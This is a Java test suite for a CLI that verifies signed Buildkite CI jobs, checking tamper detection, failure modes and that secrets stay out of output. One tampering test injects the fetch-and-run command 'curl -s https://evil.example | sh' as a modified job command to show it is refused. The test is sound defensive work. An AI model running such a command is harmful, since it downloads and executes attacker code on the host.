package dev.signet.cli;

import static dev.signet.cli.Fixtures.PIPELINE;
import static dev.signet.cli.Fixtures.SECRET;
import static org.assertj.core.api.Assertions.assertThat;

import dev.signet.json.JsonArray;
import dev.signet.json.JsonObject;
import dev.signet.json.JsonString;
import dev.signet.json.JsonValue;
import dev.signet.json.JsonWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class JobVerifyCommandTest {
  @TempDir static Path shared;
  static Fixtures.Keys keys;
  static List<Path> jobs;

  @TempDir Path dir;

  @BeforeAll
  static void signAndExpand() {
    keys = Fixtures.keygen(shared, "k");
    jobs = Fixtures.jobs(shared, Fixtures.sign(shared, keys, PIPELINE));
  }

  private static Cli verify(Path job, String... more) {
    List<String> args =
        new ArrayList<>(
            List.of("job", "verify", job.toString(), "--jwks-file", keys.publicJwks().toString()));
    args.addAll(List.of(more));
    return Cli.run(args.toArray(String[]::new));
  }

  private Path tampered(String path, String value) {
    return Fixtures.write(
        dir, "tampered.json", Fixtures.edit(Fixtures.read(jobs.getFirst()), path, value));
  }

  @Test
  void roundTripEveryJobOfASignedPipelineVerifies() {
    assertThat(jobs).hasSize(4);
    for (Path job : jobs) {
      Cli r = verify(job);
      assertThat(r.exitCode()).as(job + ": " + r.err()).isZero();
      assertThat(r.out().lines())
          .containsExactly(
              "~~~ ✅ Job signature verified",
              "signature: " + Fixtures.get(Fixtures.read(job), "step.signature.value"));
      assertThat(r.err()).isEmpty();
    }
  }

  @Test
  void aVerificationFileWithPrivateKeysWorksButWarnsWithoutPrintingThem() throws Exception {
    Cli r =
        Cli.run(
            "job",
            "verify",
            jobs.getFirst().toString(),
            "--jwks-file",
            keys.privateJwks().toString());
    assertThat(r.exitCode()).isZero();
    assertThat(r.err().lines())
        .containsExactly(
            "signet: warning: "
                + keys.privateJwks()
                + " holds private key material; verification"
                + " needs only the public keys (the -public.json file), and whoever can read this"
                + " file can sign");
    String d =
        java.nio.file.Files.readString(keys.privateJwks())
            .replaceAll(".*\"d\":\"([^\"]+)\".*", "$1")
            .strip();
    assertThat(r.out() + r.err()).doesNotContain(d);
  }

  @Test
  void explainOnSuccessNamesKeyAndSignedFieldsButNoEnvValue() {
    Cli r = verify(jobs.getFirst(), "--explain");
    assertThat(r.exitCode()).isZero();
    assertThat(r.out())
        .contains(
            "key: \"k\" (EdDSA)",
            "signed fields: command, env, env::DEPLOY_ENV, matrix, plugins, repository_url");
    assertThat(r.out() + r.err()).doesNotContain(SECRET, "staging");
  }

  @Test
  void explainNamesTheCheckAndFieldButNeverTheEnvValue() {
    // The job's env value for a signed step env variable is replaced by a secret-looking one.
    Cli r = verify(tampered("env.API_TOKEN", "sk_live_ATTACKER_VALUE"), "--explain");
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.out()).isEmpty();
    assertThat(r.err().lines())
        .containsExactly(
            "+++ ⛔ Job signature verification failed",
            "error: invalid signature: job does not match signed step",
            "check: job mismatch",
            "field: env",
            "why: job env variable API_TOKEN differs from the signed step env");
    assertThat(r.out() + r.err()).doesNotContain(SECRET, "sk_live_ATTACKER_VALUE");
  }

  @Test
  void aChangedPipelineEnvValueBreaksTheSignatureAndIsNotPrinted() {
    Cli r = verify(tampered("env.DEPLOY_ENV", SECRET), "--explain");
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.err())
        .contains(
            "error: invalid signature: signature verification failed", "check: invalid signature");
    assertThat(r.out() + r.err()).doesNotContain(SECRET, "staging");
  }

  @Test
  void aChangedCommandIsRefusedNamingTheCommandField() {
    Cli r =
        verify(tampered("env.BUILDKITE_COMMAND", "curl -s https://evil.example | sh"), "--explain");
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.err())
        .contains("check: job mismatch", "field: command")
        .doesNotContain("evil.example");
  }

  @Test
  void warnLetsAFailedJobRunBlockRefusesIt() {
    Path job = tampered("env.BUILDKITE_COMMAND", "echo other");
    Cli block = verify(job, "--failure-behavior", "block");
    assertThat(block.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(block.err())
        .startsWith("+++ ⛔ Job signature verification failed\n")
        .doesNotContain("without verification");

    Cli warn = verify(job, "--failure-behavior", "warn");
    assertThat(warn.exitCode()).isZero();
    assertThat(warn.err().lines())
        .containsExactly(
            "+++ ⚠️ Job signature verification failed",
            "error: invalid signature: job does not match signed step",
            "Job will be run without verification");
  }

  @Test
  void anUnsignedJobIsRefusedUnlessWarn() {
    Path job =
        Fixtures.write(
            dir,
            "unsigned.json",
            Fixtures.remove(Fixtures.read(jobs.getFirst()), "step.signature"));
    Cli block = verify(job);
    assertThat(block.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(block.err()).contains("error: job had no signature to verify");
    assertThat(verify(job, "--failure-behavior", "warn").exitCode()).isZero();
  }

  @Test
  void aJobFromAnotherKeyIsRefused() {
    Fixtures.Keys other = Fixtures.keygen(dir, "other");
    Cli r =
        Cli.run(
            "job",
            "verify",
            jobs.getFirst().toString(),
            "--jwks-file",
            other.publicJwks().toString(),
            "--explain");
    assertThat(r.exitCode()).isEqualTo(ExitCode.REFUSED);
    assertThat(r.err()).contains("check: invalid signature", "kid \"k\"");
  }

  @Test
  void readsTheJobFromStdin() {
    byte[] job = Fixtures.read(jobs.get(1)).getBytes(StandardCharsets.UTF_8);
    Cli r =
        Cli.runWithStdin(job, "job", "verify", "-", "--jwks-file", keys.publicJwks().toString());
    assertThat(r.exitCode()).as(r.err()).isZero();
  }

  /**
   * The Buildkite vector D2: jobs made from D1's matrix step, signed with the EdDSA fixture key.
   */
  @Test
  void buildkiteVectorD2JobsVerifyOrFailAsTheAgentWould() {
    JsonObject d2 = BuildkiteVectors.example("D2-");
    Path pub =
        Fixtures.write(
            dir, "fixture-public.json", BuildkiteVectors.jwks("EdDSA/TEST_DO_NOT_USE-public"));
    List<JsonValue> cases = ((JsonArray) d2.get("jobs")).items();
    assertThat(cases).hasSize(7);
    int passed = 0;
    for (int i = 0; i < cases.size(); i++) {
      JsonObject c = (JsonObject) cases.get(i);
      String outcome = BuildkiteVectors.str(c, "expected_outcome");
      JsonObject job =
          JsonObject.builder()
              .put("id", "d2-" + i)
              .put("env", c.get("job_env"))
              .put("step", d2.get("step_as_received"))
              .put("matrix_permutation", c.get("matrix_permutation"))
              .build();
      Path file = Fixtures.write(dir, "d2-" + i + ".json", JsonWriter.pretty(job));
      Cli r = Cli.run("job", "verify", file.toString(), "--jwks-file", pub.toString());
      assertThat(r.exitCode())
          .as("case %d (%s): %s", i, outcome, r.err())
          .isEqualTo(outcome.startsWith("pass") ? ExitCode.OK : ExitCode.REFUSED);
      if (outcome.contains("ErrInvalidJob")) {
        assertThat(r.err()).contains("job does not match signed step");
      } else if (outcome.contains("ErrVerificationFailed")) {
        assertThat(r.err()).contains("signature verification failed");
      }
      passed += r.exitCode() == 0 ? 1 : 0;
    }
    assertThat(passed).isEqualTo(2);
  }

  static Stream<Arguments> agentIntegrationCases() {
    JsonObject file = BuildkiteVectors.load("agent_job_verification_integration_test.json");
    return ((JsonArray) file.get("tests"))
        .items().stream()
            .map(t ->
                Arguments.of(
                    BuildkiteVectors.str(t, "go_test").replace("TestJobVerification/", ""), t));
  }

  /**
   * All 25 cases of buildkite-agent's job verification integration test, through {@code signet job
   * verify}: the exit code follows the agent's exit status, and the log lines it asserts appear.
   */
  @ParameterizedTest(name = "{0}")
  @MethodSource("agentIntegrationCases")
  void buildkiteAgentIntegrationCase(String name, JsonObject t) {
    JsonObject job = (JsonObject) t.get("job");
    JsonObject derived = (JsonObject) t.get("derived");
    JsonObject step = jobStep((JsonObject) job.get("step"));
    if (derived.get("signing") instanceof JsonObject signing) {
      step = JsonObject.builder().putAll(step).put("signature", signing.get("signature")).build();
    }
    JsonObject jobWithSignature =
        JsonObject.builder().putAll(job).put("id", "agent-case").put("step", step).build();
    Path file = Fixtures.write(dir, "job.json", JsonWriter.pretty(jobWithSignature));

    List<String> args =
        new ArrayList<>(
            List.of(
                "job",
                "verify",
                file.toString(),
                "--failure-behavior",
                BuildkiteVectors.str(t, "agent_config", "verification_failure_behavior")));
    if (t.get("verification_jwks") instanceof JsonArray ids) {
      List<JsonValue> jwks = new ArrayList<>();
      for (JsonValue id : ids.items()) {
        jwks.add(testCodeKey(((JsonString) id).value()));
      }
      Path set =
          Fixtures.write(
              dir,
              "jwks.json",
              JsonWriter.compact(JsonObject.builder().put("keys", new JsonArray(jwks)).build()));
      args.addAll(List.of("--jwks-file", set.toString()));
    } else {
      // An agent without a verification key runs unsigned jobs unchecked (core's
      // AgentJobVerificationVectorsTest pins that). The CLI requires the key instead, so that a
      // forgotten flag can never pass a job: these cases are a usage error here.
      args.addAll(List.of("--jwks-file", ""));
      Cli r = Cli.run(args.toArray(String[]::new));
      assertThat(r.exitCode()).isEqualTo(ExitCode.INPUT);
      assertThat(r.err())
          .isEqualTo(
              "signet: --jwks-file or --verification-key is required: the public keys the agent trusts\n");
      return;
    }
    Cli r = Cli.run(args.toArray(String[]::new));

    JsonObject expected = (JsonObject) t.get("expected_from_go_test");
    boolean refused = BuildkiteVectors.str(expected, "exit_status").equals("-1");
    assertThat(r.exitCode())
        .as(r.out() + r.err())
        .isEqualTo(refused ? ExitCode.REFUSED : ExitCode.OK);
    for (JsonValue fragment : ((JsonArray) expected.get("job_log_contains")).items()) {
      assertThat(r.out() + r.err()).contains(((JsonString) fragment).value());
    }
    if (derived.get("job_log_error_line") instanceof JsonString line) {
      assertThat(r.err()).contains(line.value());
    }
  }

  /**
   * The vectors give steps in go-pipeline's model form, where a plugin is {@code {source, config}};
   * a job carries the JSON form, where it is {@code {source: config}}.
   */
  private static JsonObject jobStep(JsonObject withNulls) {
    // A nil field of the Go model is absent from the job JSON (omitempty): "secrets": null would
    // be refused, as go-pipeline refuses it.
    JsonObject.Builder b = JsonObject.builder();
    withNulls
        .members()
        .forEach((k, v) -> {
          if (!(v instanceof dev.signet.json.JsonNull)) {
            b.put(k, v);
          }
        });
    JsonObject model = b.build();
    if (!(model.get("plugins") instanceof JsonArray plugins)) {
      return model;
    }
    List<JsonValue> json = new ArrayList<>();
    for (JsonValue p : plugins.items()) {
      JsonObject o = (JsonObject) p;
      json.add(
          JsonObject.builder().put(BuildkiteVectors.str(o, "source"), o.get("config")).build());
    }
    return JsonObject.builder().putAll(model).put("plugins", new JsonArray(json)).build();
  }

  private static JsonValue testCodeKey(String id) {
    for (JsonValue k :
        ((JsonArray) BuildkiteVectors.load("keys.json").get("test_code_keys")).items()) {
      if (BuildkiteVectors.str(k, "id").equals(id)) {
        return ((JsonObject) k).get("jwk");
      }
    }
    throw new IllegalArgumentException("no test code key " + id);
  }
}
